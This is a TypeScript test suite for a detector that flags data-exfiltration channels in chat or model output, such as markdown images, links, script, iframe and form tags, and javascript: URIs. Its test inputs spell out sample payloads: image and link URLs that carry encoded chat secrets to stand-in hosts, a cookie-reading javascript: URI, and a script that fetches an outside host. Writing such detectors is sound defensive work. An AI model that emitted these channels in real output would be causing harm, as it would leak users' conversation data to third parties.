import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectExfiltration, openExfilFrom } from './index.js';
import { hostAllowed, judgeUrl } from './url-data.js';

const kinds = (text: string, allowedHosts: string[] = []) =>
  detectExfiltration(text, { allowedHosts }).map((f) => f.kind);

test('host allow-list matches exact hosts and subdomain wildcards', () => {
  assert.equal(hostAllowed('docs.acme.io', ['*.acme.io']), true);
  assert.equal(hostAllowed('acme.io', ['*.acme.io']), true);
  assert.equal(hostAllowed('evilacme.io', ['*.acme.io']), false);
  assert.equal(hostAllowed('acme.io.evil.net', ['acme.io']), false);
});

test('data-carrying URLs are told apart from ordinary ones', () => {
  assert.equal(judgeUrl('https://x.io/q?d=SGVsbG8gV29ybGQhIFRoaXMgaXMgc2VjcmV0Cg==', []).kind, 'off-list');
  const v = judgeUrl('https://x.io/q?d=SGVsbG8gV29ybGQhIFRoaXMgaXMgc2VjcmV0Cg==', []);
  assert.equal(v.kind === 'off-list' && v.carriesData, true);
  const plain = judgeUrl('https://nodejs.org/api/stream.html#readable-streams', []);
  assert.equal(plain.kind === 'off-list' && plain.carriesData, false);
  assert.deepEqual(judgeUrl('javascript:alert(1)', []), { kind: 'bad-scheme', scheme: 'javascript' });
  assert.deepEqual(judgeUrl('data:image/png;base64,iVBORw0KGgo=', []), { kind: 'ok' });
  assert.deepEqual(judgeUrl('data:text/html,<script>', []), { kind: 'bad-scheme', scheme: 'data' });
});

test('exfiltration channels are found', () => {
  assert.deepEqual(kinds('![logo](https://cdn.evil.net/p.png)'), ['off-list-image']);
  assert.deepEqual(kinds('![a](https://e.net/l?q=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5)'), [
    'image-exfiltration',
  ]);
  assert.deepEqual(kinds('[click](https://e.net/c?d=user%20said%20their%20password%20is%20x)'), [
    'link-exfiltration',
  ]);
  assert.deepEqual(kinds('visit https://e.net/a/c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5 now'), [
    'link-exfiltration',
  ]);
  assert.deepEqual(kinds('[x](javascript:alert(document.cookie))'), ['javascript-uri']);
  assert.deepEqual(kinds('<script>fetch("https://e.net")</script>'), ['html-script']);
  const unclosed = 'Put it in a <script> tag, then carry on.';
  assert.deepEqual(
    detectExfiltration(unclosed).map((f) => unclosed.slice(f.start, f.end)),
    ['<script>'],
    'an unclosed script loses only its opening tag',
  );
  assert.deepEqual(kinds('<iframe src="https://e.net"></iframe>'), ['html-iframe']);
  assert.deepEqual(kinds('<div onmouseover="steal()">hi</div>'), ['html-event-handler']);
  assert.deepEqual(kinds('<form action="https://e.net/collect">'), ['html-form']);
  assert.deepEqual(kinds('<img src="https://e.net/t.gif">'), ['off-list-image']);
});

test('allowed hosts and ordinary links pass', () => {
  const benign = [
    'See [the docs](https://nodejs.org/api/fs.html) and https://github.com/org/repo/pull/42.',
    'Commit https://github.com/a/b/commit/3f786850e387550fdab836ed7e6dc881de23001b',
    'Search https://www.google.com/search?q=typescript+generics',
    '![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
    'Use `Map<string, number>` when a < b and b > c.',
    '[anchor](#section-2) and [relative](./docs/guide.md)',
  ];
  for (const text of benign) assert.deepEqual(kinds(text), [], text);
  assert.deepEqual(kinds('![logo](https://cdn.acme.io/p.png)', ['*.acme.io']), []);
});

test('links, tags and URLs left open at the end are reported open', () => {
  assert.equal(openExfilFrom('see ![alt text that is long'), 4);
  assert.equal(openExfilFrom('see [a](https://e.net/x'), 4);
  assert.equal(openExfilFrom('see ![a [b] c](https://e.net/x'), 4, 'nested brackets in the alt text');
  assert.equal(openExfilFrom('x [ref]: https://e.net/'), 2, 'a definition still arriving');
  assert.equal(openExfilFrom('x <img src="https://e.net/'), 2);
  assert.equal(openExfilFrom('a closed [link](https://a.io) '), -1);
  assert.equal(openExfilFrom('plain words only'), -1);
});
